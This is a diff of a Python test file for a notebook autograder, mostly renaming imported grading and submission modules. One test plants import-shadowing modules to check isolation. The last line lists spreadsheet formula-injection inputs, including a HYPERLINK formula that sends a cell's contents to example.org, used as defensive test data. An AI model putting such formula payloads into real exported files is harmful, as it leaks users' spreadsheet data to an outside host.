@@ -22,13 +22,13 @@ from autograder.authoring.course import find_lesson
 from autograder.diagnosis.attempt import explained
 from autograder.diagnosis.explain import make_report
 from autograder.grading import collect, find_notebook
-from autograder.grading.marking import forbidden_names, mark, verdicts
+from autograder.grading.marking import decide_marks, forbidden_names, mark_submission
 from autograder.grading.reports import class_table
 from autograder.judging.observation import Observation
 from autograder.judging.values import MAX_KEY, ArrayNode, encode
 from autograder.notebooks.archives import File
 from autograder.notebooks.pictures import unmarked
-from autograder.notebooks.submission import UnreadableError, parse
+from autograder.notebooks.rebuild_submission import UnreadableError, parse
 from autograder.plugins import exchange
 from autograder.plugins.sanitise import PageExporter
 from autograder.sandbox import Cell, Sandbox, codec, launch, process
@@ -142,7 +142,7 @@ def test_modules_in_the_folder_where_the_grader_is_called_are_not_imported(tmp_p
     """`attn collect` lays a learner's modules beside the notebook, and an instructor may stand there."""
     for name in SHADOWS:
         (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'a').write('{name}\\n')\n")
-    ask = "from autograder.grading import bounded; print(bounded.read([bounded.Task('names', 'x = 1')]))"
+    ask = "from autograder.grading import read_in_child; print(read_in_child.read([read_in_child.Task('names', 'x = 1')]))"
     environment = {name: value for name, value in os.environ.items() if name != "PYTHONSAFEPATH"}
     done = subprocess.run(
         [sys.executable, "-P", "-c", ask], cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=120, check=False
@@ -222,7 +222,7 @@ def test_numbers_that_overflow_in_an_explanation_warn_nobody() -> None:
             return ArrayNode(np.full(leaf.content.shape, number), leaf.kind)
 
         huge = [Observation(value.map(filled)) for value in right]
-        make_report(explained(verdicts.judged_from(record, huge)))
+        make_report(explained(decide_marks.judged_from(record, huge)))
 
 
 WATCH = """
@@ -275,9 +275,9 @@ def test_a_long_key_above_thousands_of_parts_fills_no_memory(isolated: Sandbox, 
     record = next(iter(sample.lesson().pack(seed=1, naming="listed").in_code.values()))
     source = f"def {record.id}(**_): return {{{LONG_KEY!r}: [1] * 9_900}}"
     with isolated.submission([Cell("a", source)]) as submitted:
-        seen = submitted.observe_all([verdicts.question(record)])[record.id]
+        seen = submitted.observe_all([decide_marks.question(record)])[record.id]
     assert all(one.value is not None and one.value.strange for one in seen)
-    assert verdicts.judged_from(record, seen).score == 0
+    assert decide_marks.judged_from(record, seen).score == 0
     with pytest.raises(WireError, match="keys of at most"):
         codec.fetch_tree([{"d": [["a" * (MAX_KEY + 1), {"s": 1}]]}, 0, 0], [])
     assert encode({"a" * MAX_KEY: 1}).kind == "dict"
@@ -330,7 +330,7 @@ def test_a_cell_that_waits_for_a_processor_has_the_seconds_of_one_that_does_not(
 
 def test_a_remark_on_what_a_cell_said_is_one_line() -> None:
     failed = nbformat.v4.new_output("error", ename="ValueError", evalue="\n" * 300 + "x", traceback=[])
-    assert mark._error(nbformat.v4.new_code_cell("", outputs=[failed])) == "ValueError: x"
+    assert mark_submission._error(nbformat.v4.new_code_cell("", outputs=[failed])) == "ValueError: x"
 
 
 @pytest.mark.parametrize("text", ['a.txt;=HYPERLINK("http://example.org?"&A1)', "a; +1", "x\t=1", "=1;-1", "a;\uff1d1"])
